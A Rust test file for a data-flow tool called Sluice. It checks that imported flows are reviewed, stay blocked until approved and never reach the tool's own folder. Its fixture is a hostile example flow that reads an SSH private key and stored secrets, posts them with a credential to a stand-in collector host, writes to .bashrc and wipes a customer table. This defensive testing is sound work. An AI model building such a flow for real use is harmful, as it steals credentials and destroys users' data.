//! Flows from elsewhere: the review of what they touch, nothing run until approved, approval kept
//! through the person's own edits, and Sluice's own folder out of every flow's reach.

use serde_json::json;
use sluice_runtime::{Error, PreviewRequest, RunTarget, Sluice, Trigger};
use sluice_tests::{flow_json, temporary_installation};

/// A flow "from a colleague" that reads a key, Sluice's secrets and a file beside it, queries a
/// database and replaces a table's rows, and posts records with a credential to a host of its choosing; with an enabled
/// schedule.
fn colleague_flow(home: &std::path::Path) -> serde_json::Value {
    let user_home = directories::BaseDirs::new()
        .unwrap()
        .home_dir()
        .to_path_buf();
    let mut flow = flow_json(
        json!([
            {"id": "key", "type": "csv.read", "config": {"path": user_home.join(".ssh/id_ed25519")}},
            {"id": "mine", "type": "csv.read", "config": {"path": home.join("secrets.json")}},
            {"id": "contacts", "type": "csv.read", "config": {"path": "contacts.csv"}},
            {"id": "post", "type": "http.request", "credential": "GitHub",
             "config": {"url": "https://collector.example.net:8443/in", "method": "POST"}},
            {"id": "orders", "type": "postgres.read", "credential": "warehouse",
             "config": {"query": "SELECT * FROM orders"}},
            {"id": "rc", "type": "csv.write", "config": {"path": user_home.join(".bashrc")}},
            {"id": "wipe", "type": "postgres.write", "credential": "warehouse",
             "config": {"schema": "shop", "table": "customers", "mode": "replace"}}
        ]),
        json!([
            {"from": "key", "to": "post"}, {"from": "mine", "to": "post"},
            {"from": "orders", "to": "post"},
            {"from": "contacts", "to": "rc"}, {"from": "contacts", "to": "wipe"}
        ]),
    );
    flow["schedule"] = json!({"cron": "0 */5 * * * *", "timezone": "UTC", "enabled": true});
    flow
}

fn start(sluice: &Sluice, flow_id: &str) -> Result<(), Error> {
    sluice
        .start_run(RunTarget::Stored(flow_id.to_string()), Trigger::Manual)
        .map(drop)
}

#[tokio::test]
async fn an_imported_flow_shows_what_it_touches_and_runs_only_once_approved() {
    let (home, sluice) = temporary_installation();
    let colleague = tempfile::tempdir().unwrap();
    let file = colleague.path().join("tidy.sluice.json");
    std::fs::write(&file, colleague_flow(home.path()).to_string()).unwrap();

    let imported = sluice.import_flow_file(&file, false).unwrap();
    assert!(!imported.trusted);
    let loaded = sluice.find_flow(&imported.flow_id).unwrap();
    assert!(
        !loaded.flow.schedule.as_ref().unwrap().enabled,
        "an imported schedule is off"
    );
    let review = sluice.review(&loaded).unwrap();
    assert!(!review.trusted);
    let concerns = |node: &str| {
        let file = review.files.iter().find(|file| file.node == node).unwrap();
        (file.path.clone(), file.concerns.join("; "), file.forbidden)
    };
    let (key, key_concerns, _) = concerns("key");
    assert!(key.ends_with(".ssh/id_ed25519"), "{key}");
    assert!(key_concerns.contains("a hidden file or folder in your home folder"));
    assert!(key_concerns.contains("outside the flow's folder"));
    let (_, mine_concerns, forbidden) = concerns("mine");
    assert!(forbidden && mine_concerns.contains("inside Sluice's own folder"));
    let (contacts, contacts_concerns, _) = concerns("contacts");
    assert!(contacts.starts_with(&*colleague.path().canonicalize().unwrap().to_string_lossy()));
    assert_eq!(
        contacts_concerns, "",
        "a file beside the flow is unremarkable"
    );
    let rc = review.files.iter().find(|file| file.node == "rc").unwrap();
    assert!(rc.writes && rc.concerns.iter().any(|c| c.contains("hidden")));
    assert_eq!(review.hosts.len(), 1);
    assert_eq!(
        review.hosts[0].host.as_deref(),
        Some("collector.example.net:8443")
    );
    assert!(review.hosts[0].sends_records);
    assert_eq!(review.hosts[0].credential.as_deref(), Some("GitHub"));
    assert_eq!(review.credentials, ["GitHub", "warehouse"]);
    let databases: Vec<&str> = (review.databases.iter())
        .map(|database| database.what.as_str())
        .collect();
    assert_eq!(
        databases,
        [
            "runs the query SELECT * FROM orders",
            "replaces every row of the table shop.customers"
        ]
    );
    assert_eq!(review.databases[0].credential.as_deref(), Some("warehouse"));
    assert!(!review.schedule_enabled);
    let text = review.to_string();
    for expected in [
        "NOT APPROVED",
        ".bashrc",
        "collector.example.net",
        "GitHub",
        "Databases it reads or writes:\n  runs the query SELECT * FROM orders  (node orders, credential 'warehouse')\n  replaces every row of the table shop.customers  (node wipe, credential 'warehouse')",
    ] {
        assert!(text.contains(expected), "{expected} in:\n{text}");
    }

    // Sluice's own folder is refused before anything else, approved or not.
    let error = start(&sluice, &imported.flow_id).unwrap_err();
    assert!(matches!(error, Error::Forbidden(_)), "{error}");
    assert!(error.to_string().contains("node `mine`"), "{error}");
    sluice.approve_flow(&imported.flow_id).unwrap();
    assert!(matches!(
        start(&sluice, &imported.flow_id).unwrap_err(),
        Error::Forbidden(_)
    ));
}

#[tokio::test]
async fn approval_survives_the_persons_own_edits_and_a_changed_import_asks_again() {
    let (_home, sluice) = temporary_installation();
    let data = tempfile::tempdir().unwrap();
    std::fs::write(data.path().join("in.csv"), "id,name\n1,Ada\n").unwrap();
    let flow = flow_json(
        json!([
            {"id": "read", "type": "csv.read", "config": {"path": "in.csv"}},
            {"id": "save", "type": "csv.write", "config": {"path": "out.csv"}}
        ]),
        json!([{"from": "read", "to": "save"}]),
    );
    let file = data.path().join("copy.sluice.json");
    std::fs::write(&file, flow.to_string()).unwrap();
    let flow_id = sluice.import_flow_file(&file, false).unwrap().flow_id;

    let listed = |sluice: &Sluice| {
        let flows = sluice.list_flows().unwrap();
        flows
            .iter()
            .find(|flow| flow.summary.id == flow_id)
            .unwrap()
            .trusted
    };
    assert!(!listed(&sluice), "the flows list marks it");
    let error = start(&sluice, &flow_id).unwrap_err();
    assert!(matches!(error, Error::Untrusted(_)), "{error}");
    assert!(error.is_invalid_flow(), "the CLI exits 2");
    let preview = sluice
        .preview(
            RunTarget::Stored(flow_id.clone()),
            PreviewRequest {
                limit: 5,
                ..Default::default()
            },
        )
        .await
        .unwrap_err();
    assert!(matches!(preview, Error::Untrusted(_)), "no preview either");
    assert!(!std::fs::exists(data.path().join("out.csv")).unwrap());

    let review = sluice.approve_flow(&flow_id).unwrap();
    assert!(review.trusted);
    assert!(listed(&sluice));
    sluice
        .preview(
            RunTarget::Stored(flow_id.clone()),
            PreviewRequest {
                limit: 5,
                ..Default::default()
            },
        )
        .await
        .unwrap();

    // The person's edit in the studio keeps the approval…
    let mut edited = sluice.find_flow(&flow_id).unwrap();
    edited.flow.name = "Renamed".into();
    sluice.save_document(edited.flow, &[]).unwrap();
    assert!(
        sluice
            .is_trusted(&sluice.find_flow(&flow_id).unwrap())
            .unwrap()
    );
    // …pasting a node that only reshapes records keeps it; one that reads a file does not.
    let mut pasted = sluice.find_flow(&flow_id).unwrap().flow;
    pasted.nodes.push(
        serde_json::from_value(json!({"id": "keep", "type": "filter", "config": {"when": "true"}}))
            .unwrap(),
    );
    sluice
        .save_document(pasted.clone(), &["keep".into()])
        .unwrap();
    assert!(sluice.document(sluice.find_flow(&flow_id).unwrap()).trusted);
    pasted.nodes.push(
        serde_json::from_value(
            json!({"id": "peek", "type": "csv.read", "config": {"path": "/etc/hosts"}}),
        )
        .unwrap(),
    );
    let document = sluice.save_document(pasted, &["peek".into()]).unwrap();
    assert!(
        !document.trusted,
        "a pasted node that reads a file asks again"
    );
    let mut restored = sluice.find_flow(&flow_id).unwrap().flow;
    restored
        .nodes
        .retain(|node| node.id != "keep" && node.id != "peek");
    sluice.approve_flow(&flow_id).unwrap();
    sluice.save_document(restored, &[]).unwrap();
    // …an unchanged import of what was approved keeps it too…
    let mut same = sluice.find_flow(&flow_id).unwrap().flow;
    std::fs::write(&file, same.to_json()).unwrap();
    assert!(sluice.import_flow_file(&file, true).unwrap().trusted);
    // …a changed import asks again.
    same.nodes[1].config = json!({"path": "/tmp/elsewhere.csv"});
    std::fs::write(&file, same.to_json()).unwrap();
    assert!(!sluice.import_flow_file(&file, true).unwrap().trusted);
    assert!(matches!(
        start(&sluice, &flow_id).unwrap_err(),
        Error::Untrusted(_)
    ));
    // Restoring a version brings back that version's approval, not the current one's: the
    // changed import, never approved, stays unapproved under an approved flow.
    let unapproved = sluice.find_flow(&flow_id).unwrap().version.unwrap();
    let mut own = sluice.find_flow(&flow_id).unwrap().flow;
    own.nodes[1].config = json!({"path": "out.csv"});
    sluice.save_document(own, &[]).unwrap();
    sluice.approve_flow(&flow_id).unwrap();
    let approved = sluice.find_flow(&flow_id).unwrap().version.unwrap();
    sluice.restore_flow_version(&flow_id, unapproved).unwrap();
    assert!(!sluice.document(sluice.find_flow(&flow_id).unwrap()).trusted);
    sluice.restore_flow_version(&flow_id, approved).unwrap();
    assert!(sluice.document(sluice.find_flow(&flow_id).unwrap()).trusted);
}

#[tokio::test]
async fn no_flow_reaches_sluices_own_folder_even_through_a_link() {
    let (home, sluice) = temporary_installation();
    let data = tempfile::tempdir().unwrap();
    let link = data.path().join("innocent.csv");
    #[cfg(unix)]
    std::os::unix::fs::symlink(home.path().join("sluice.db"), &link).unwrap();
    #[cfg(not(unix))]
    return;

    // Made in the studio: approved, and its relative paths resolve in the files folder.
    let created = sluice.create_flow("Mine").unwrap();
    assert_eq!(created.base_dir, sluice.files_folder());
    let mut flow = created.flow;
    flow.nodes = serde_json::from_value(json!([
        {"id": "read", "type": "csv.read", "config": {"path": link}},
        {"id": "save", "type": "csv.write", "config": {"path": "out.csv"}}
    ]))
    .unwrap();
    flow.edges = serde_json::from_value(json!([{"from": "read", "to": "save"}])).unwrap();
    sluice.save_document(flow.clone(), &[]).unwrap();
    let error = start(&sluice, &flow.id).unwrap_err();
    let message = error.to_string();
    assert!(matches!(error, Error::Forbidden(_)), "{message}");
    assert!(message.contains("sluice.db"), "{message}");

    // The same flow reading a real file runs, writing into the files folder.
    std::fs::write(data.path().join("real.csv"), "id\n1\n").unwrap();
    flow.nodes[0].config = json!({"path": data.path().join("real.csv")});
    sluice.save_document(flow.clone(), &[]).unwrap();
    let handle = sluice
        .start_run(RunTarget::Stored(flow.id.clone()), Trigger::Manual)
        .unwrap();
    let outcome = handle.wait().await.unwrap();
    assert_eq!(
        outcome.report.status,
        sluice_runtime::RunStatus::Succeeded,
        "{:?}",
        outcome.report.failure
    );
    assert!(sluice.files_folder().join("out.csv").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_webhook_of_an_unapproved_flow_is_refused_before_its_body_is_kept() {
    let (_home, sluice) = sluice_tests::installation_with_memory_secrets();
    let data = tempfile::tempdir().unwrap();
    let flow = flow_json(
        json!([
            {"id": "hook", "type": "webhook", "config": {"idle_seconds": 0.2}},
            {"id": "save", "type": "json.write", "config": {"path": "events.ndjson"}}
        ]),
        json!([{"from": "hook", "to": "save"}]),
    );
    let file = data.path().join("hook.sluice.json");
    std::fs::write(&file, flow.to_string()).unwrap();
    let flow_id = sluice.import_flow_file(&file, false).unwrap().flow_id;
    let review = sluice.review(&sluice.find_flow(&flow_id).unwrap()).unwrap();
    assert_eq!(review.listens, ["hook"]);
    let url = sluice.webhook_url(&flow_id).unwrap();
    let token = url.rsplit('/').next().unwrap().to_string();

    let refused = sluice
        .accept_webhook(&flow_id, &token, br#"{"n": 1}"#, None)
        .unwrap_err();
    assert_eq!(refused.status, 403, "{}", refused.message);
    assert!(refused.message.contains("approve"), "{}", refused.message);
    assert_eq!(
        sluice
            .accept_webhook(&flow_id, "wrong", br#"{"n": 1}"#, None)
            .unwrap_err()
            .status,
        404,
        "a wrong token learns nothing about the flow"
    );

    sluice.approve_flow(&flow_id).unwrap();
    assert_eq!(
        sluice
            .accept_webhook(&flow_id, &token, br#"{"n": 1}"#, None)
            .unwrap(),
        1
    );
}
